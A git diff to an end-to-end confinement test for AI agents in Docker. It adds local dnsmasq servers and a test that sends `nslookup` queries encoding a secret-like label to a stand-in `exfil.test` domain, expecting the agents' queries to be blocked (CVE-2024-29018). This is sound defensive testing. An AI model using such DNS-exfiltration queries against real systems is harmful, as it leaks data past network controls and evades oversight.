@@ -4,14 +4,15 @@
  * (networks, subnets, bridge options, internal flag, addresses, users, capabilities, read-only
  * roots, tmpfs, uploads, limits, env); only the images are stand-ins made locally: busybox-static
  * for the agents, and for the proxy image the stack builds (images/egress-proxy: Debian 12's
- * squid-openssl) one made from this host's squid-openssl, the same Debian package. From inside each agent: its own proxy works for
+ * squid-openssl) one made from this host's squid-openssl, the same Debian package. A resolver on
+ * the namespace's loopback recurses to a stand-in authoritative server for `exfil.test`. From inside each agent: its own proxy works for
  * its own hosts, and other roles' agents, the proxy's other listeners and the host are out of reach.
  *
  * The one change to what is synthesized: the proxy's squid.conf gets a `hosts_file` line (and the
  * file) so that test names resolve to the stand-in upstream inside the namespace.
  */
-import { spawnSync } from "node:child_process";
-import { mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { spawn, spawnSync, type ChildProcess } from "node:child_process";
+import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
@@ -32,7 +33,7 @@ import { planOf } from "../../src/plan/firewall-spec";
 import { PROXY_IMAGE_DIR } from "../../src/plan/proxy-image";
 import { packageRoot } from "../../src/terraform/package-files";
 
-const SKIP = skipLoudly("Docker confinement e2e", missingPrerequisites(["ip", "unshare", "dockerd", "docker", "containerd", "runc", "squid", "busybox", "tar", "iptables"], { namespaces: true }));
+const SKIP = skipLoudly("Docker confinement e2e", missingPrerequisites(["ip", "unshare", "dockerd", "docker", "containerd", "runc", "squid", "busybox", "tar", "iptables", "dnsmasq"], { namespaces: true }));
 
 /** The seed fleet plus a second research agent, to show what agents of one role share. */
 const SPEC: FirewallSpecProps = (() => {
@@ -51,6 +52,17 @@ const HOST_BANNER = "host-service";
 const AGENT_PORT = 8080;
 const agentBanner = (name: string) => `agent-${name}`;
 
+/**
+ * DNS as many hosts offer it: a resolver on the host's loopback (dnsmasq at 127.0.0.53, where
+ * systemd-resolved listens), named by the daemon's resolv.conf, recursing for `exfil.test` to a
+ * stand-in authoritative server (dnsmasq too), which logs every name it is asked for. Engines
+ * before 26 forward a container's queries to such a loopback resolver from the host's namespace,
+ * `internal` network or not (CVE-2024-29018).
+ */
+const RESOLVER = "127.0.0.53";
+const AUTHORITY = "203.0.113.54";
+const DNSMASQ = ["--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv", "--no-hosts", "--bind-interfaces", "--port=53", "--pid-file", "--user=root", "--log-queries"];
+
 const AGENT_IMAGE = "rapidclaw-test/busybox";
 const PROXY_IMAGE = "rapidclaw-test/squid";
 
@@ -60,6 +72,9 @@ describe.skipIf(SKIP)("Docker confinement on a real Docker Engine, replaying the
   let imageDir: string | undefined;
   let plan: FirewallPlan;
   let builtImages: string[] = [];
+  const dnsServers: ChildProcess[] = [];
+  const dnsLogDir = mkdtempSync(join(tmpdir(), "rapidclaw-dns-"));
+  const dnsLog = (name: string) => (existsSync(join(dnsLogDir, name)) ? readFileSync(join(dnsLogDir, name), "utf8") : "");
   // eslint-disable-next-line @typescript-eslint/no-explicit-any
   let doc: Record<string, any>;
   const addressOf = new Map<string, string>();
@@ -72,7 +87,12 @@ describe.skipIf(SKIP)("Docker confinement on a real Docker Engine, replaying the
     plan = planOf(stack.spec);
     doc = synthesize(stack).doc;
 
-    engine = await DockerEngine.start("rc-docker");
+    engine = await DockerEngine.start("rc-docker", { resolvConf: `nameserver ${RESOLVER}\n` });
+    engine.ns.addAddress(AUTHORITY);
+    dnsServers.push(
+      spawn("ip", ["netns", "exec", engine.ns.name, "dnsmasq", ...DNSMASQ, `--log-facility=${join(dnsLogDir, "authority.log")}`, `--listen-address=${AUTHORITY}`, "--address=/exfil.test/203.0.113.99"], { stdio: "ignore" }),
+      spawn("ip", ["netns", "exec", engine.ns.name, "dnsmasq", ...DNSMASQ, `--log-facility=${join(dnsLogDir, "resolver.log")}`, `--listen-address=${RESOLVER}`, `--server=/exfil.test/${AUTHORITY}`], { stdio: "ignore" }),
+    );
     console.info(`Docker confinement e2e: Docker Engine ${engine.version()} in namespace ${engine.ns.name}`);
     engine.ns.addAddress(UPSTREAM);
     netAgent = await NetAgent.start(engine.ns);
@@ -111,6 +131,8 @@ describe.skipIf(SKIP)("Docker confinement on a real Docker Engine, replaying the
   });
 
   afterAll(async () => {
+    for (const server of dnsServers) server.kill();
+    rmSync(dnsLogDir, { recursive: true, force: true });
     await netAgent?.stop();
     await engine?.stop();
     if (imageDir) rmSync(imageDir, { recursive: true, force: true });
@@ -215,6 +237,27 @@ describe.skipIf(SKIP)("Docker confinement on a real Docker Engine, replaying the
   it("reaches the host's service and the upstream from the host itself (the probes above could succeed)", async () => {
     expect(await netAgent!.connectTcp({ host: UPSTREAM, port: HOST_PORT, timeoutMs: 2_000 })).toMatchObject({ outcome: "data", data: HOST_BANNER });
     expect(await netAgent!.connectTcp({ host: UPSTREAM, port: 443, timeoutMs: 2_000 })).toMatchObject({ outcome: "data", data: UPSTREAM_BANNER });
+  });
+
+  it("an agent's DNS query for <data>.exfil.test never reaches the authoritative server, which the engine's resolver reaches for a container left with the default", async () => {
+    const asked = async (label: string) => {
+      await new Promise((r) => setTimeout(r, 1_000));
+      return dnsLog("authority.log").includes(label);
+    };
+    // The channel is real here: from the host, and from a container on a role's internal network
+    // left with the engine's default resolver (CVE-2024-29018: what today's agents would get without `dns`).
+    engine!.ns.run("busybox", ["nslookup", "from-host.exfil.test", RESOLVER], { allowFailure: true });
+    expect(await asked("from-host.exfil.test"), `${dnsLog("resolver.log")}\n${dnsLog("authority.log")}`).toBe(true);
+    const network = roleOf("research_agent").docker!.networkName;
+    engine!.docker(["run", "--rm", "--network", network, AGENT_IMAGE, "nslookup", "default-resolver.exfil.test"], { allowFailure: true });
+    expect(await asked("default-resolver.exfil.test"), `${dnsLog("resolver.log")}\n${dnsLog("authority.log")}`).toBe(true);
+    // The agents, as synthesized: through the embedded DNS, and straight at the resolver.
+    for (const agent of plan.agents) {
+      const label = `c2VjcmV0-${agent.name}`;
+      engine!.docker(["exec", agent.workloadName, "nslookup", `${label}.exfil.test`], { allowFailure: true });
+      engine!.docker(["exec", agent.workloadName, "nslookup", `${label}-direct.exfil.test`, RESOLVER], { allowFailure: true });
+      expect(await asked(label), `${agent.name}: ${dnsLog("authority.log")}`).toBe(false);
+    }
   });
 
   it("logs every decision as a JSON line naming the role of the listener reached", () => {
